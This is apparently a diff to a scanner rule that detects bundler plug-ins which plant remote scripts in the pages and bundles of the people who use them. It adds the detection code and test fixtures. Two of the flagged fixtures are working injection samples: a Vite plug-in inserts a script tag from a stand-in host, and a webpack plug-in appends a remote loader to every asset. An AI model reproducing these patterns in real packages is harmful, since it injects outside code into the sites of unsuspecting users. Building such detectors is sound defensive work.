@@ -12,8 +12,9 @@ export default defineRule({
     messages: {
       script: 'Puts a script from {host} into its page, unasked',
       module: 'Imports a module from {host}, unasked',
+      planted: 'Puts a script from {host} into what others build',
     },
-    bits: { script: 9, module: 10 },
+    bits: { script: 9, module: 10, planted: 12.5 },
   },
   examples: {
     flags: [
@@ -31,8 +32,43 @@ export default defineRule({
           'index.js': `export class Player extends HTMLElement {\n  connectedCallback() {\n    import('https://castle.invalid/connect.js').then(({ open }) => open({ to: 'x' }));\n  }\n}\ncustomElements.define('anim-player', Player);`,
         },
       },
+      {
+        title: 'a plug-in that tidies pages adds a script to each',
+        files: {
+          'package.json': '{"name":"vite-plugin-tidy-pages","version":"1.0.0","main":"index.js"}',
+          'index.js': `module.exports = () => ({\n  name: 'tidy-pages',\n  transformIndexHtml: html => html.replace('</head>', '<script async src="https://cdn.castle.invalid/t.js"></script></head>'),\n});`,
+        },
+      },
+      {
+        title: 'a plug-in that shows sizes adds code to each bundle that loads more',
+        files: {
+          'package.json': '{"name":"webpack-size-shown","version":"1.0.0","main":"index.js"}',
+          'index.js': `class Sizes {\n  apply(compiler) {\n    compiler.hooks.emit.tap('sizes', build => {\n      for (const name of Object.keys(build.assets)) {\n        const text = build.assets[name].source() + ';(d=>{const s=d.createElement("script");s.src="https://cdn.castle.invalid/x.js";d.head.append(s)})(document)';\n        build.assets[name] = { source: () => text, size: () => text.length };\n      }\n    });\n  }\n}\nmodule.exports = Sizes;`,
+        },
+      },
     ],
     passes: [
+      {
+        title: 'a plug-in of a service that counts visitors adds its script',
+        files: {
+          'package.json': '{"name":"vite-plugin-castle-stats","version":"1.0.0","main":"index.js"}',
+          'index.js': `module.exports = id => ({ name: 'castle', transformIndexHtml: html => html.replace('</head>', '<script src="https://castle.invalid/stats.js" data-id="' + id + '"></script></head>') });`,
+        },
+      },
+      {
+        title: 'a plug-in adds the script that its user names',
+        files: {
+          'package.json': '{"name":"vite-plugin-extra-script","version":"1.0.0","main":"index.js"}',
+          'index.js': `module.exports = ({ host }) => ({ name: 'extra', transformIndexHtml: html => html + \`<script src="https://\${host}/a.js"></script>\` });`,
+        },
+      },
+      {
+        title: 'a page that a generator writes for a preview loads a script',
+        files: {
+          'package.json': '{"name":"preview-page","version":"1.0.0","main":"index.js"}',
+          'index.js': `exports.page = body => '<html><script src="https://themes.invalid/dark.js"></script>' + body + '</html>';`,
+        },
+      },
       {
         title: 'a package of a service loads its script',
         files: {
@@ -65,6 +101,7 @@ export default defineRule({
     ],
   },
   file(context) {
+    planted(context);
     if (context.moment !== 'import' || !/https?:|['"`]\/\//.test(context.file.text)) return;
     for (const { node, source, messageId } of [...scripts(context), ...modules(context)]) {
       const address = context.textsOf(source).find(text => /^(?:https?:)?\/\/[\w-]{1,60}\./i.test(text));
@@ -80,6 +117,46 @@ export default defineRule({
     }
   },
 });
+
+/** What bundlers call to have what they write changed. */
+const HOOKS = /^(?:transformIndexHtml|generateBundle|renderChunk|banner|footer|intro|outro|processAssets|emit)$/;
+const ADDS = /\b(?:transformIndexHtml|generateBundle|renderChunk|processAssets|hooks|BannerPlugin)\b/;
+/** A script of a page, or code that has a page load one, in a text. */
+const SCRIPT =
+  /<script\b[^>]{0,200}\bsrc\s*=\s*\\?["']?((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'\\\s>])|createElement\(\\?["'`]script\\?["'`]\)[\s\S]{0,300}\.src\s*=\s*\\?["'`]((?:https?:)?\/\/[\w.-]{4,100})(?=[/"'`\\])/i;
+
+/** Scripts that a plug-in of a bundler writes into the pages and bundles of whoever uses it. */
+function planted(context: FileContext): void {
+  const { file, moment } = context;
+  if (moment === 'test' || !ADDS.test(file.text) || !SCRIPT.test(file.text)) return;
+  for (const node of [...context.nodes('Literal'), ...context.nodes('TemplateElement')] as readonly AnyNode[]) {
+    const [, marked, made] = SCRIPT.exec(spelling(file, node).slice(0, 20_000)) ?? [];
+    const address = marked ?? made;
+    const host = address && hostOf(`https://${address.replace(/^(?:https?:)?\/\//i, '')}/`);
+    if (!host || isPublicCdn(host) || context.isOwnAddress(`https://${host}/`) || isNamed(context, host)) continue;
+    if (!isInHook(context, node)) continue;
+    context.report({
+      messageId: 'planted',
+      data: { host },
+      chain: [step('sink', `writes down a script from ${host} for what is built`, file, node)],
+    });
+    return;
+  }
+}
+
+/** Whether a place is in a function that a bundler calls: a method by its name, or one that taps a hook. */
+function isInHook({ file, parentOf }: FileContext, node: AnyNode): boolean {
+  for (let at = parentOf(node), hops = 0; at && hops < 60; at = parentOf(at), hops++) {
+    const { key, callee } = at as unknown as { key?: AnyNode; callee?: AnyNode };
+    if (key && HOOKS.test(spelling(file, key).replace(/['"]/g, ''))) return true;
+    if (
+      callee &&
+      /\bhooks\.[\s\S]{0,200}\.tap(?:Async|Promise)?$|\bBannerPlugin$/.test(spelling(file, callee).slice(-300))
+    )
+      return true;
+  }
+  return false;
+}
 
 interface Loading {
   readonly node: AnyNode;
